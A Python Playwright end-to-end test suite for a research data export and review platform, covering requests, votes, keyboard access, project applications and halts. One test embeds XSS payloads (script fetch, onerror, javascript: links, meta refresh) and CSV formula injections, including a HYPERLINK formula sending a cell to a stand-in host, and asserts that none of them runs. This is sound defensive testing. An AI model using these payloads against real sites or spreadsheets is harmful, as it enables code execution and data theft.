"""What each person does at the pages, in real Chromium: what they see, type, press and are told.

Pictures of the documents are taken on the way. Forms are used without script and votes without a
mouse; every page somebody stops at passes axe.
"""

import hashlib
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, FilePayload, Page, Request, expect

from tests.e2e.browsing import Browsers, Examiner, picture, tab_to, until
from tests.e2e.conftest import House

PROJECT = "mgus-outcomes"
HALTED = "light-chains"
APPLIED = "bone-health"
LAY = (
    "Small proteins in the blood may weaken the bones. We ask whether people with many of them "
    "break a bone earlier than others do. We compare groups of people and never look at one "
    "person. If it is so, doctors can protect the bones of those who need it in good time."
)
WHY_HALTED = "A device of this project was lost."

TABLE = b"""age_group,people,progressed,died
under 60,298,38,121
60 to 69,361,35,229
70 to 79,441,31,367
80 and over,284,11,246
"""
SHOWS = "People with MGUS by age group, how many progressed and how many died."
POPULATION = "All 1,384 people of the snapshot, each in one age group."
CONTROL = "Every count is 10 or more, and so is every difference between two of them."

SCRIPT = b"""<h1>Read me</h1>
<script>window.touched = 'script'; fetch('/tokens')</script>
<img src=x onerror="window.touched = 'picture'; alert('picture')">
<svg onload="alert('svg')"></svg>
<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">
<a href="javascript:alert('link')">press me</a>
{{ 7 * 7 }} ${7 * 7} </td></tr></table></main> \xe2\x80\xaereversed\xe2\x80\xac
"""
FORMULAS = b"""label,people
"=HYPERLINK(""https://elsewhere.example/?x=""&B2,""press"")",120
"=cmd|' /C calc'!A0",140
"@SUM(1+1)*cmd|' /C calc'!A0",160
"<script>alert('cell')</script>",180
"""

WRONG_DICTIONARY = """\
tables:
  scans:
    file: scans.csv
    person: person
    columns:
      person: {type: text, role: pseudonym, description: pseudonym of the trusted third party}
      density: {type: nonsense, role: sensitive, description: bone density}
"""
DICTIONARY = WRONG_DICTIONARY.replace("nonsense", "number")
SCANS = "person,density\n" + "".join(
    f"P{hashlib.sha256(str(n).encode()).hexdigest()[:11].upper()},{0.8 + n % 37 / 100:.2f}\n"
    for n in range(60)
)

Seen = Callable[[Page], None]


@pytest.fixture
def seen(examiner: Examiner) -> Seen:
    """Holds that the page as it stands breaks no serious rule of axe."""

    def look(page: Page) -> None:
        assert examiner.examine(page) == []

    return look


@pytest.fixture
def seen_without_script(examiner: Examiner) -> Seen:
    """The same for pages of a browser in which script is switched off."""

    def look(page: Page) -> None:
        assert examiner.examine(page, script=False) == []

    return look


def test_an_export_from_a_form_without_script_to_the_download(
    house: House, browsers: Browsers, seen: Seen, seen_without_script: Seen
) -> None:
    """Rosa asks without script, Cora votes without a mouse, Cyrus is not told, Rosa gets it."""
    rosa = browsers.stranger(script=False)
    browsers.sign_in(rosa, "rosa")
    _sees_why_not(house, rosa, seen_without_script)
    _opens_a_draft(house, rosa, "age-groups", "Progression by age group")
    digest = _describes(rosa, "age-groups.csv", TABLE)
    seen_without_script(rosa)
    _pre_checks(rosa)
    rosa.get_by_role("button", name="Submit for release").click()
    until(rosa, rosa.get_by_role("heading", level=1).get_by_text("in review"))
    expect(rosa.get_by_text("Two checkers vote on each file")).to_be_visible()
    seen_without_script(rosa)
    picture(rosa, "request-author")

    cora, cyrus = browsers.of("cora"), browsers.of("cyrus")
    before = _opens_from_the_queue(house, cyrus, "Progression by age group", seen)
    _approves_by_keyboard(house, cora, "Progression by age group", seen)
    cyrus.reload()
    assert cyrus.locator("main").text_content() == before, "nothing of the first vote is to be seen"
    assert "Cora" not in cyrus.content()
    until(rosa, rosa.get_by_role("heading", level=1).get_by_text("in review"))
    assert "Cora" not in rosa.content()

    _approves(cyrus)
    until(rosa, rosa.get_by_role("heading", level=1).get_by_text("released"))
    seen_without_script(rosa)
    with rosa.expect_download() as download:
        rosa.get_by_role("link", name="Download age-groups.csv").click()
    assert download.value.suggested_filename == "age-groups.csv"
    content = Path(download.value.path()).read_bytes()
    assert content == TABLE
    assert digest == "sha256:" + hashlib.sha256(content).hexdigest()
    rosa.reload()
    expect(rosa.get_by_text("downloaded 1 time")).to_be_visible()


def _sees_why_not(house: House, rosa: Page, seen: Seen) -> None:
    """Her projects are there; where she cannot work, the reason is."""
    expect(rosa.get_by_role("heading", name="Good day, Rosa Researcher")).to_be_visible()
    halted = rosa.get_by_role("article").filter(has_text=f"({HALTED})")
    expect(halted.get_by_text("Why you cannot work in it now")).to_be_visible()
    expect(halted.get_by_role("listitem")).to_contain_text("This project is halted")
    expect(halted.get_by_role("link", name="Open the workspace")).to_have_count(0)
    working = rosa.get_by_role("article").filter(has_text=f"({PROJECT})")
    expect(working.get_by_text("You can work in the notebook")).to_be_visible()
    expect(working.get_by_role("link", name="Open the workspace")).to_be_visible()
    seen(rosa)
    rosa.get_by_role("link", name=f"({HALTED})").click()
    expect(rosa.get_by_text("Why you cannot work here now")).to_be_visible()
    seen(rosa)
    rosa.goto(f"{house.settings.control_url}/projects/{PROJECT}")
    expect(rosa.get_by_role("heading", name="Working here")).to_be_visible()
    seen(rosa)
    picture(rosa, "researcher-project")


def _opens_a_draft(house: House, page: Page, name: str, title: str) -> None:
    page.goto(f"{house.settings.control_url}/requests")
    page.get_by_role("link", name="Ask for an export").click()
    expect(page.get_by_role("radio", name=HALTED)).to_be_disabled()
    page.get_by_role("radio", name=PROJECT).check()
    page.get_by_label("Short name").fill(name)
    page.get_by_label("Title").fill(title)
    page.get_by_role("button", name="Open a draft").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text("draft")


def _describes(page: Page, name: str, content: bytes) -> str:
    """Add a file and say what checkers need to know; its digest as the page tells it."""
    page.get_by_label("Files", exact=True).set_input_files(
        FilePayload(name=name, mimeType="application/octet-stream", buffer=content)
    )
    page.get_by_role("button", name="Add", exact=True).click()
    file = page.get_by_role("article").filter(has_text=name)
    file.get_by_label("What it shows").fill(SHOWS)
    file.get_by_label("About whom").fill(POPULATION)
    file.get_by_label("How disclosure was controlled").fill(CONTROL)
    file.get_by_role("button", name="Save").click()
    _is_told(page, "Saved")
    expect(file.get_by_label("What it shows")).to_have_value(SHOWS)
    return file.locator(".digest").first.get_attribute("title") or ""


def _pre_checks(page: Page) -> None:
    page.get_by_role("button", name="Pre-check").click()
    file = page.get_by_role("article").filter(has_text="age-groups.csv")
    until(page, file.get_by_role("heading", level=2).get_by_text("pass"))


def _opens_from_the_queue(house: House, page: Page, title: str, seen: Seen) -> str:
    page.goto(f"{house.settings.control_url}/queue")
    seen(page)
    page.get_by_role("link", name=title).click()
    expect(page.get_by_role("group", name="Your vote on")).to_be_visible()
    expect(page.get_by_text(SHOWS)).to_be_visible()
    return page.locator("main").text_content() or ""


def _approves_by_keyboard(house: House, page: Page, title: str, seen: Seen) -> None:
    """From the queue to the vote with Tab, Enter and the space bar alone."""
    page.goto(f"{house.settings.control_url}/queue")
    picture(page, "queue")
    tab_to(page, page.get_by_role("link", name=title))
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_contain_text(title)
    seen(page)
    picture(page, "request-checker")
    tab_to(page, page.get_by_role("link", name="Look at it"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("cell", name="70 to 79")).to_be_visible()
    expect(page.get_by_role("columnheader", name="progressed")).to_be_visible()
    seen(page)
    picture(page, "view")
    tab_to(page, page.get_by_role("radio", name="Approve"))
    page.keyboard.press("Space")
    expect(page.get_by_role("radio", name="Approve")).to_be_checked()
    tab_to(page, page.get_by_label("Reason"))
    page.keyboard.type("Groups only; the smallest count is 11.")
    tab_to(page, page.get_by_role("button", name="Vote on"))
    page.keyboard.press("Enter")
    _is_told(page, "Your vote is stored")
    seen(page)


def _approves(page: Page) -> None:
    page.get_by_role("radio", name="Approve").check()
    page.get_by_role("button", name="Vote on").click()
    _is_told(page, "Your vote is stored")


def _is_told(page: Page, words: str) -> None:
    """What the page says after a form was carried out."""
    expect(page.get_by_role("status").filter(has_text=words)).to_be_visible()


def test_a_hostile_file_is_shown_and_does_nothing(
    house: House, browsers: Browsers, seen: Seen
) -> None:
    """Markup, script and formulas are text to a checker: no dialog, no request, nothing runs."""
    rosa = browsers.of("rosa")
    _opens_a_draft(house, rosa, "hostile", "Notes with markup")
    _describes(rosa, "notes.txt", SCRIPT)
    _describes(rosa, "formulas.csv", FORMULAS)
    rosa.get_by_role("button", name="Submit for release").click()
    until(rosa, rosa.get_by_role("heading", level=1).get_by_text("in review"))

    cora = browsers.of("cora")
    dialogs: list[Dialog] = []
    asked: list[Request] = []
    cora.on("dialog", lambda dialog: dialogs.append(dialog))
    cora.on("request", lambda request: asked.append(request))
    cora.goto(f"{house.settings.control_url}/queue")
    cora.get_by_role("link", name="Notes with markup").click()
    request = cora.url
    _shows(
        cora,
        "notes.txt",
        SCRIPT.decode().replace("\u202e", "⟨U+202E⟩").replace("\u202c", "⟨U+202C⟩"),
    )
    seen(cora)
    cora.goto(request)
    _shows(cora, "formulas.csv", '=HYPERLINK("https://elsewhere.example/?x="&B2,"press")')
    expect(cora.get_by_role("cell", name="<script>alert('cell')</script>")).to_be_visible()
    expect(cora.get_by_role("main").get_by_role("link", name="press")).to_have_count(0)
    seen(cora)
    assert dialogs == []
    own = house.settings.control_url
    assert [one.url for one in asked if not one.url.startswith((f"{own}/", "data:"))] == []
    assert f"{own}/tokens" not in {one.url for one in asked}
    cora.get_by_role("radio", name="Reject").check()
    cora.get_by_label("Reason").fill("A spreadsheet would run it.")
    cora.get_by_role("button", name="Vote on").click()
    _is_told(cora, "Your vote is stored")


def test_a_checker_compares_with_an_earlier_release_without_a_mouse(
    house: House, browsers: Browsers, seen: Seen
) -> None:
    """From the queue to both tables side by side, to the vote, with the keyboard alone.

    The story left a table in review that is an earlier one without a few people.
    """
    cora = browsers.of("cora")
    cora.goto(f"{house.settings.control_url}/queue")
    tab_to(cora, cora.get_by_role("link", name="survival-again"))
    cora.keyboard.press("Enter")
    tab_to(cora, cora.get_by_role("link", name="Both tables side by side").first)
    cora.keyboard.press("Enter")
    expect(cora.get_by_role("heading", name="What subtracting one from the other")).to_be_visible()
    expect(cora.get_by_role("table")).to_contain_text("survival.csv")
    expect(cora.get_by_text("One population evidently contains the other")).to_be_visible()
    marked = cora.get_by_role("row").filter(has_text="marked row")
    expect(marked.first).to_be_visible()
    everything = cora.get_by_role("row").count()
    seen(cora)
    picture(cora, "beside")
    tab_to(cora, cora.get_by_role("link", name="Show only marked rows"))
    cora.keyboard.press("Enter")
    expect(cora.get_by_role("link", name="Show all rows")).to_be_visible()
    assert cora.get_by_role("row").count() <= everything
    seen(cora)
    expect(cora.get_by_role("radio", name="Approve The check")).to_be_disabled()
    tab_to(cora, cora.get_by_role("radio", name="Return the author"))
    cora.keyboard.press("Space")
    tab_to(cora, cora.get_by_role("textbox", name="Reason"))
    cora.keyboard.type("It conflicts with an earlier release on this dataset; round to one base.")
    tab_to(cora, cora.get_by_role("button", name="Vote on"))
    cora.keyboard.press("Enter")
    _is_told(cora, "Your vote is stored")
    rosa = browsers.of("rosa", "/requests")
    rosa.get_by_role("link", name="survival-again").click()
    expect(rosa.get_by_text("conflicts with an earlier release").first).to_be_visible()
    expect(rosa.get_by_role("link", name="Both tables side by side")).to_have_count(0)
    assert "light-chains/survival/" not in rosa.content()


def _shows(page: Page, name: str, text: str) -> None:
    """The content stands there as text, line by line, and nothing of it became a page."""
    page.get_by_role("article").filter(has_text=name).get_by_role("link", name="Look at it").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(name)
    content = page.get_by_role("group", name="Content")
    for line in text.splitlines():
        expect(content).to_contain_text(line, use_inner_text=True)
    for markup in ("script", "img", "svg", "a", "iframe", "h1", "meta"):
        expect(content.locator(markup)).to_have_count(0)
    assert page.evaluate("() => window.touched") is None


def test_an_application_is_written_reviewed_granted_and_halted(
    house: House, browsers: Browsers, seen: Seen
) -> None:
    """Lena's first try is refused and kept; every seat is filled by page; Ada halts what came."""
    lena = browsers.of("lena")
    _applies(house, lena, seen)
    for handle, seat in (
        ("odin", "Data partner of northern-registry"),
        ("olga", "Data partner of lakeside-institute"),
        ("mara", "Methods"),
        ("lotte", "Public"),
    ):
        _fills(house, browsers.of(handle), seat, seen)
    until(lena, lena.get_by_role("heading", level=1).get_by_text("active"))
    seen(lena)
    lena.get_by_role("button", name="I accept the terms").click()
    _is_told(lena, "You are a member now")
    stranger = browsers.stranger()
    stranger.goto(f"{house.settings.control_url}/register")
    expect(stranger.get_by_role("heading", name="Bone health")).to_be_visible()
    seen(stranger)
    picture(stranger, "register")
    _halts(house, browsers.of("ada"), seen)
    lena.reload()
    expect(lena.get_by_text("Why you cannot work here now")).to_be_visible()
    expect(lena.get_by_text(f"This project is halted: {WHY_HALTED}")).to_be_visible()
    seen(lena)


def _applies(house: House, lena: Page, seen: Seen) -> None:
    lena.goto(f"{house.settings.control_url}/projects")
    lena.get_by_role("link", name="Apply for a project").click()
    today = datetime.now(UTC).date()
    typed = {
        "Name": "Bone Health!",
        "Title": "Bone health with light chains",
        "Purpose": "Whether people with many light chains break bones earlier than others do.",
        "Summary in plain language": LAY,
        "First day": today.isoformat(),
        "Last day": (today + timedelta(days=200)).isoformat(),
        "Members besides you": "rosa",
    }
    for label, value in typed.items():
        lena.get_by_label(label, exact=True).fill(value)
    datasets = lena.get_by_role("group", name="Datasets")
    datasets.get_by_role("checkbox", name="flchain, held by").check()
    datasets.get_by_role("checkbox", name=re.compile("needed.*Serum")).check()
    datasets.get_by_role("checkbox", name="mgus2, held by").check()
    lena.get_by_role("button", name="Save the draft").click()
    problem = lena.get_by_role("alert")
    expect(problem).to_contain_text("'Bone Health!' cannot be a name here")
    expect(problem).to_be_focused()
    assert lena.title().startswith("Error")
    for label, value in typed.items():
        expect(lena.get_by_label(label, exact=True)).to_have_value(value)
    expect(datasets.get_by_role("checkbox", checked=True)).to_have_count(3)
    seen(lena)
    picture(lena, "application")
    lena.get_by_label("Name", exact=True).fill(APPLIED)
    lena.get_by_role("button", name="Save the draft").click()
    _is_told(lena, "The draft is saved")
    seen(lena)
    lena.get_by_role("button", name="Submit for review").click()
    _is_told(lena, "Submitted")
    seen(lena)


def _fills(house: House, reviewer: Page, seat: str, seen: Seen) -> None:
    reviewer.get_by_role("link", name="Bone health").click()
    place = reviewer.get_by_role("article").filter(has_text=seat)
    seen(reviewer)
    place.get_by_role("radio", name="Approve").check()
    place.get_by_role("button", name="Vote").click()
    _is_told(reviewer, "Your vote is stored")
    seen(reviewer)


def _halts(house: House, ada: Page, seen: Seen) -> None:
    """From the console with its proofs to the halt; who halted cannot resume."""
    ada.get_by_role("link", name="Open the console").click()
    proved = ada.get_by_role("row").filter(has_text=PROJECT).first
    expect(proved.get_by_role("link", name=re.compile(r"\d+ of \d+ held"))).to_be_visible()
    expect(proved.get_by_text("safe", exact=True)).to_be_visible()
    seen(ada)
    proved.get_by_role("link", name="held").click()
    expect(ada.get_by_role("heading", name="Isolation proof")).to_be_visible()
    assert ada.get_by_role("rowheader").count() >= 24
    seen(ada)
    picture(ada, "proof", whole=False)
    ada.goto(f"{house.settings.control_url}/projects/{APPLIED}")
    ada.get_by_text("Halt: end all access to this project now").click()
    ada.get_by_label("Why", exact=True).first.fill(WHY_HALTED)
    ada.get_by_role("button", name="Halt now").click()
    _is_told(ada, "Halted. Nothing passes")
    seen(ada)
    ada.get_by_label("What was found").fill("All is well again.")
    ada.get_by_role("button", name="Resume").click()
    expect(ada.get_by_role("alert")).to_contain_text("another administrator", ignore_case=True)
    expect(ada.get_by_label("What was found")).to_have_value("All is well again.")
    seen(ada)
    ada.goto(f"{house.settings.control_url}/console")
    stopped = ada.get_by_role("table", name="Halts in force").or_(ada.get_by_role("table").first)
    expect(stopped.get_by_role("row").filter(has_text=APPLIED)).to_contain_text(WHY_HALTED)
    seen(ada)
    picture(ada, "console")


def test_a_dataset_is_announced_sent_and_returned(
    house: House, browsers: Browsers, seen: Seen
) -> None:
    """Stella's mistake is named, her words are kept; Odin sends back what she then proposes."""
    stella = browsers.of("stella")
    stella.get_by_role("link", name="Announce a dataset").click()
    typed = {
        "Dataset": "bone-scans",
        "Version": "2026-1",
        "Title": "Bone density of sixty people",
        "Summary": "One measurement of a made-up device for each person.",
        "Data dictionary, YAML or JSON": WRONG_DICTIONARY,
    }
    for label, value in typed.items():
        stella.get_by_label(label, exact=True).fill(value)
    stella.get_by_role("button", name="Announce").click()
    problem = stella.get_by_role("alert")
    expect(problem).to_contain_text("Line 7: Column 'density' of table 'scans'")
    expect(problem).to_be_focused()
    for label, value in typed.items():
        expect(stella.get_by_label(label, exact=True)).to_have_value(value)
    seen(stella)
    stella.get_by_label("Data dictionary, YAML or JSON").fill(DICTIONARY)
    stella.get_by_role("button", name="Announce").click()
    _is_told(stella, "Announced")
    seen(stella)
    stella.get_by_label("Files", exact=True).set_input_files(
        FilePayload(name="scans.csv", mimeType="text/csv", buffer=SCANS.encode())
    )
    stella.get_by_role("button", name="Send").click()
    _is_told(stella, "The files have arrived")
    expect(stella.get_by_role("rowheader", name="scans.csv")).to_be_visible()
    seen(stella)
    stella.get_by_role("button", name="That is all: verify").click()
    _is_told(stella, "being verified")
    until(stella, stella.get_by_role("heading", level=1).get_by_text("proposed"))
    seen(stella)

    odin = browsers.of("odin")
    odin.get_by_role("link", name="Bone density").click()
    seen(odin)
    picture(odin, "dataset")
    odin.get_by_role("radio", name="Send it back to the steward").check()
    odin.get_by_role("button", name="Vote").click()
    expect(odin.get_by_role("alert")).to_contain_text("To return you must say why")
    expect(odin.get_by_role("radio", name="Send it back to the steward")).to_be_checked()
    seen(odin)
    odin.get_by_label("Reason").fill("Say which device measured it.")
    odin.get_by_role("button", name="Vote").click()
    _is_told(odin, "Your vote is stored")
    stella.reload()
    expect(stella.get_by_text("Say which device measured it.")).to_be_visible()
    expect(stella.get_by_role("heading", level=1)).to_contain_text("receiving")
    seen(stella)
